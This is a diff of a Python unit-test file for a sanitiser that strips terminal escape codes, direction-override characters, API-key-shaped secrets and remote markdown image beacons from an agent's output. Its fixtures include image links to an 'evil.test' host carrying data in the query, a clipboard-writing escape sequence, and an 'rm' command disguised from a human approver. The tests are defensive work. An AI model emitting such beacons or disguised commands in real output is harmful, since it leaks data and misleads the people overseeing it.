@@ -6,7 +6,10 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from tools.cleaning import cleaned, cleaned_value
+from server.models import Event, EventKind, PendingApproval
+from tests.unit.store.records import START
+from tools.cleaning import cleaned, guarded, guarded_json, guarded_value
+from tools.elicitation import question
 
 CLIPBOARD = "\x1b]52;c;ZXZpbA==\x07"
 
@@ -27,15 +30,16 @@ def test_x13_what_steers_a_terminal_or_misleads_the_eye_is_taken_out(steering: s
 def test_x13_ordinary_text_of_any_language_stays_as_it_is(text: str) -> None:
     """Row X13, the other side."""
     assert cleaned(text) == text
+    assert guarded(text) == text
 
 
 def test_x13_values_are_cleaned_all_through() -> None:
     """Row X13: in structured answers too."""
     value = {f"k{CLIPBOARD}": ["a\x1b[0m", {"b": "\u202eevil"}], "n": 1, "none": None}
-    text = repr(cleaned_value(value))
+    text = repr(guarded_value(value))
     assert "\\x1b" not in text
     assert "\\u202e" not in text
-    assert cleaned_value(value)["n"] == 1
+    assert guarded_value(value)["n"] == 1
 
 
 def test_x13_endless_nesting_has_an_end() -> None:
@@ -43,4 +47,72 @@ def test_x13_endless_nesting_has_an_end() -> None:
     value: list[object] = []
     for _ in range(500):
         value = [value]
-    assert cleaned_value(value) is not None
+    assert guarded_value(value) is not None
+
+
+SECRETS = {
+    "Anthropic key": "sk-ant-api03-" + "aB3_-" * 17,
+    "OpenAI key": "sk-proj-" + "aB3_" * 12,
+    "E2B key": "e2b_" + "0a" * 20,
+    "Rookery token": "rky_" + "x" * 43,
+    "AWS key": "AKIA" + "ABCD1234" * 2,
+    "GitHub token": "ghp_" + "a1" * 18,
+    "GitLab token": "glpat-" + "a1" * 10,
+    "Slack token": "xoxb-123456789012-abcdefABCDEF",
+    "Google key": "AIza" + "a1b2c" * 7,
+    "Stripe key": "sk_live_" + "a1" * 12,
+    "npm token": "npm_" + "a1" * 18,
+    "private key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl\nbnNz\n-----END OPENSSH PRIVATE KEY-----",
+}
+
+
+@pytest.mark.parametrize("kind", SECRETS)
+@pytest.mark.parametrize("around", ["{}", "API_KEY={}", 'export X="{}"\n', "line\n{}\nline", "see ({}), or {}."])
+def test_x13_a_secret_is_named_and_not_shown(kind: str, around: str) -> None:
+    """Row X13: wherever it stands, and as often as it does."""
+    secret = SECRETS[kind]
+    found = guarded(around.replace("{}", secret))
+    assert found == around.replace("{}", f"[redacted: {kind}]")
+    event = Event(session_id="s", seq=1, turn=1, kind=EventKind.TEXT, data={"text": secret}, at=START)
+    assert secret not in guarded_json(event)
+
+
+def test_x13_a_private_key_that_was_cut_off_is_not_shown_either() -> None:
+    """Row X13: as a bounded tool result may hold one."""
+    assert guarded("-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabcd") == "[redacted: private key]"
+
+
+@pytest.mark.parametrize(
+    "harmless",
+    [
+        "da39a3ee5e6b4b0d3255bfef95601890afd80709",
+        "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
+        "the branch ghp_fix, a task-list, AKIA, e2b_template and npm_config_cache",
+        "a public key: -----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----",
+        "![a plot](plots/one.png) and [a link](https://example.com)",
+    ],
+)
+def test_x13_what_is_no_secret_and_no_beacon_stays(harmless: str) -> None:
+    """Row X13, the other side: hashes, ids and the names of keys."""
+    assert guarded(harmless) == harmless
+
+
+@pytest.mark.parametrize(
+    ("image", "link"),
+    [
+        ("![x](https://evil.test/?q=data)", "[x](https://evil.test/?q=data)"),
+        ("![](  //evil.test/a.png)", "[](  //evil.test/a.png)"),
+        ("![x](<http://evil.test/a b>)", "[x](<http://evil.test/a b>)"),
+        ("![x][ref]\n\n[ref]: https://evil.test", "[x][ref]\n\n[ref]: https://evil.test"),
+    ],
+)
+def test_x13_a_remote_image_becomes_a_link_that_nothing_fetches_by_itself(image: str, link: str) -> None:
+    """Row X13: image beacons."""
+    assert guarded(f"Done. {image}") == f"Done. {link}"
+
+
+def test_x13_a_call_cannot_hide_in_the_question_about_it() -> None:
+    """Row X13: an override of the direction of writing shows a person another command than the one that runs."""
+    spoofed = PendingApproval(approval_id="a", tool="Bash", summary="Bash: rm \u202etxt.e\x1b[8m ~", expires_at=START)
+    assert "\u202e" not in question(spoofed)
+    assert "\x1b" not in question(spoofed)
